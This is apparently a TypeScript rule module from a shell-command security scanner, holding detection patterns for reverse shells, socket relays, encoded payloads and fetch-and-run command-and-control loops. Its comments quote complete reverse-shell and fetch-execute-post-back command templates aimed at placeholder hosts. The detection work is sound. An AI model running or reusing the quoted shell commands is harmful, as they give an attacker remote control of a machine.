/** Named predicates for the reverse-shell rules (rules/builtin/reverse-shell.json). */
import type { Subject } from '../subject.js';
import { forPrograms, NETCATS, requires, type Predicate } from './programs.js';
import { registry } from '../../programs/registry.js';
import { sendsFileOrOutput } from './exfiltration.js';

/** Shells by name (`/bin/bash` is normalised to `bash` by the walker, but option values are not). */
const SHELL_WORD = /(^|\/)(ba|da|z|k|c|tc|fi|a|mk|rba|ya)?sh$/;

/** Raw-socket clients whose stdin/stdout are a network connection. */
const SOCKET_CLIENTS = new Set([...NETCATS, 'telnet', 'socat', 'openssl', 'gnutls-cli', 'sbd', 'rcat']);

/**
 * Text of a complete reverse or bind shell, as found in a string that something will run later
 * (a crontab line, an rc file, `git config core.sshCommand`, `tmux new-session '…'`, `.shell` in
 * sqlite3). Each alternative needs both a network endpoint and a shell or program execution.
 */
export const REVERSE_SHELL_TEXT: RegExp[] = [
  // bash -i >& /dev/tcp/h/p 0>&1, sh <&196, exec 5<>/dev/tcp/…
  /\b(ba|da|z|k|a|mk)?sh\b[^;|&\n]*(>&?|<&?|&>)\s*\/dev\/(tcp|udp)\/[^/\s]+\/\d+/,
  /\bexec\s+\d+<>\s*\/dev\/(tcp|udp)\//,
  // nc -e /bin/sh h p, ncat --sh-exec, busybox nc … -e sh
  /\b(nc|ncat|netcat)(\.\w+)?\b[^;|&\n]*\s(-e|-c|--exec|--sh-exec|--lua-exec)[\s=]+\S*(sh|bash|cmd(\.exe)?|python[0-9.]*|perl|ruby|php|lua)\b/,
  // mkfifo f; cat f | sh -i 2>&1 | nc h p > f
  /\b(mkfifo|mknod)\b[\s\S]*\|\s*(\/bin\/)?(ba|da|z|k|a)?sh\b[\s\S]*\|\s*(nc|ncat|netcat|telnet|openssl)\b/,
  // socat … exec:'bash -li' / system:sh
  /\bsocat\b[^;\n]*\b(exec|system):['"]?\S*\b((ba|da|z|k|a)?sh|python[0-9.]*|perl|ruby|php)\b/i,
  // python/perl/ruby/php/lua socket one-liners
  /\bsocket\b[\s\S]*\b(dup2|pty\.spawn)\b/,
  /\bfsockopen\s*\([\s\S]*\b(exec|shell_exec|system|passthru|popen|proc_open)\b/,
  /\bTCPSocket\.(new|open)\b[\s\S]*\b(exec|spawn|system|popen)\b/,
  /\/inet\/(tcp|udp)\/\d+\/[^/\s]+\/\d+/,
];

/** Some argument holds a complete reverse-shell command line. */
function payloadArg(s: Subject): boolean {
  return s.cmd.args.some((a) => REVERSE_SHELL_TEXT.some((r) => r.test(a.value)));
}

/** The inline program text (python -c, node -e…) holds a reverse-shell command line it can run. */
function payloadInCode(s: Subject): boolean {
  const code = s.code;
  if (code === null) return false;
  if (!/\b(system|exec\w*|popen|spawn\w*|call|run|Popen|check_output|execute|passthru|proc_open|child_process|`)/.test(code)) return false;
  return REVERSE_SHELL_TEXT.slice(0, 5).some((r) => r.test(code));
}

/**
 * The command's stdin is a duplicated descriptor or a socket variable rather than the terminal:
 * `sh <&196`, `bash 0<&3`, `zsh 0>&$REPLY` (zsh's ztcp leaves the socket fd in $REPLY).
 */
function stdinFromDescriptor(s: Subject): boolean {
  return s.cmd.redirects.some(
    (r) =>
      (r.dup && (r.op === '<&' || r.fd === 0)) ||
      (r.path !== null && r.path.dynamic && /^\$\{?REPLY\}?$/.test(r.path.value) && (r.op === '>&' || r.op === '<&')),
  );
}

/** Earlier on the line, a socket was opened into a descriptor: `exec 3<>/dev/tcp/h/p`, `ztcp h p`. */
function socketOpenedEarlier(s: Subject): boolean {
  return s.all.some(
    (o) => o.cmd.id < s.cmd.id && (o.cmd.program === 'ztcp' || o.cmd.redirects.some((r) => r.path !== null && /^\/dev\/(tcp|udp)\//.test(r.path.value))),
  );
}

function isSocketClient(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === null) return false;
  if (p === 'openssl') return s.parsed.subcommands[0] === 's_client' || s.parsed.subcommands[0] === 's_server';
  if (p === 'curl') return s.cmd.args.some((a) => /^telnet:\/\//i.test(a.value));
  return SOCKET_CLIENTS.has(p);
}

function runsShellFromStdin(s: Subject): boolean {
  const p = s.cmd.program;
  return p !== null && SHELL_WORD.test(p) && (s.cmd.execsStdin || s.hasFlag('-i'));
}

/**
 * A shell whose input or output is relayed through a raw socket client on the same line:
 * `mkfifo f; cat f | sh -i 2>&1 | nc h p > f`, `telnet h p | sh | telnet h q`,
 * `nc h p | sh`. A fifo plus a socket client plus a shell reading commands is the classic relay;
 * without a fifo, the shell must read straight from the client's pipe.
 */
function shellSocketRelay(s: Subject): boolean {
  if (!runsShellFromStdin(s)) return false;
  if (s.pipelineNeighbours('before').some(isSocketClient)) return true;
  const fifo = s.all.some((o) => o.cmd.program === 'mkfifo' || (o.cmd.program === 'mknod' && o.cmd.args.some((a) => a.value === 'p')));
  return fifo && s.all.some((o) => o !== s && isSocketClient(o));
}

/**
 * `echo <base64> | base64 -d | sh`: decode the literal and look for a reverse shell in it, so
 * the finding names what the blob is.
 */
function decodedPayload(s: Subject): boolean {
  if (s.cmd.program !== 'echo' && s.cmd.program !== 'printf') return false;
  for (const a of s.cmd.args) {
    const v = a.value.trim();
    if (v.length < 16 || !/^[A-Za-z0-9+/]+=*$/.test(v)) continue;
    const text = Buffer.from(v, 'base64').toString('utf8');
    if (REVERSE_SHELL_TEXT.some((r) => r.test(text))) return true;
  }
  return false;
}

/**
 * ssh -R exposes a local port on the remote side; forwarding to the local sshd (port 22) hands
 * whoever controls that host a way back into this machine.
 */
function reverseTunnelToSsh(s: Subject): boolean {
  return s.parsed.options.some((o) => o.name === '-R' && o.value !== null && /(^|:)22$/.test(o.value.value));
}

/** Programs whose output is what they fetched from the network. */
const FETCHERS: ReadonlySet<string> = new Set([...registry.tagged('network-fetcher'), ...SOCKET_CLIENTS]);

function fetches(o: Subject): boolean {
  return o.cmd.program !== null && FETCHERS.has(o.cmd.program) && o.ops.some((x) => x.kind === 'Network');
}

/** Runs program text it is given: a shell reading stdin or `-c`, eval, source, or a command word built at run time. */
function runsText(o: Subject): boolean {
  const p = o.cmd.program;
  if (p === null) return o.cmd.args.length > 0 || o.cmd.assignments.length === 0;
  if (p === 'eval' || p === 'source' || p === '.') return true;
  return SHELL_WORD.test(p) && (o.cmd.execsStdin || o.hasFlag('-c'));
}

/** Variables assigned, on the line, the output of a fetch: `c=$(curl -s URL)`. */
function fetchedVariables(s: Subject): Set<string> {
  const out = new Set<string>();
  for (const o of s.all) {
    if (o.cmd.assignments.length === 0 || !s.all.some((f) => f.cmd.substitutionOf === o.cmd.id && fetches(f))) continue;
    for (const a of o.cmd.assignments) out.add(a.name);
  }
  return out;
}

/**
 * Some command on the line runs text fetched from the network: `curl … | sh`, `eval "$(curl …)"`,
 * `bash <<< "$(wget -qO- …)"`, `$(curl …)` as a command, `c=$(curl …); eval "$c"`.
 */
function lineRunsFetchedText(s: Subject): boolean {
  let vars: Set<string> | null = null;
  return s.all.some((o) => {
    if (!runsText(o)) return false;
    if (o.cmd.execsStdin && o.pipelineNeighbours('before').some(fetches)) return true;
    if (o.feeders().some(fetches)) return true;
    vars ??= fetchedVariables(s);
    const names = vars;
    return (
      names.size > 0 && [o.cmd.programRaw, ...o.cmd.args.map((a) => a.raw ?? a.value)].some((w) => [...names].some((n) => new RegExp(`\\$\\{?${n}\\b`).test(w)))
    );
  });
}

/**
 * A command-and-control loop over HTTP or a socket: text fetched from the network is run on the
 * line and this command sends a file, a variable or a pipe's output back (`c=$(curl -s URL);
 * r=$(eval "$c"); curl -d "$r" URL`, `… | sh 2>&1 | curl --data-binary @- URL`).
 */
function c2PostBack(s: Subject): boolean {
  if (!sendsFileOrOutput(s) || !s.all.some((o) => o !== s && fetches(o))) return false;
  return lineRunsFetchedText(s);
}

export const reverseShellPredicates: Record<string, Predicate> = {
  'reverse-shell/payload-arg': requires([{ features: ['args'] }], payloadArg),
  'reverse-shell/payload-in-code': requires([{ features: ['code'] }], payloadInCode),
  'reverse-shell/stdin-from-descriptor': requires([{ features: ['redirect'] }], stdinFromDescriptor),
  'reverse-shell/socket-opened-earlier': socketOpenedEarlier,
  'reverse-shell/shell-socket-relay': requires([{ program: (p) => SHELL_WORD.test(p) }], shellSocketRelay),
  'reverse-shell/decoded-payload': forPrograms(['echo', 'printf'], decodedPayload),
  'reverse-shell/c2-post-back': requires([{ features: ['line-fetches'] }], c2PostBack),
  'reverse-shell/reverse-tunnel-to-ssh': requires([{ features: ['args'] }], reverseTunnelToSsh),
};
